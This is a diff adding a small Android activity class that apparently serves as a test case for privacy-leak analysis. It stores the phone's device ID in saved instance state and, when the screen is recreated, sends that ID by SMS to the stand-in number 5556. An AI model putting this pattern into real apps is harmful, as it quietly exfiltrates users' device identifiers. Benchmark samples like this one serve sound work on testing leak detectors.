@@ -1,0 +1,33 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** Saved with the state of the screen, sent when it is made again. */
+public class SavedCreate extends Case {
+    @Override protected void onSaveInstanceState(Bundle b) { super.onSaveInstanceState(b); b.putString("k", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()); }
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        if (s != null) SmsManager.getDefault().sendTextMessage("5556", null, s.getString("k"), null, null);
+    }
+}
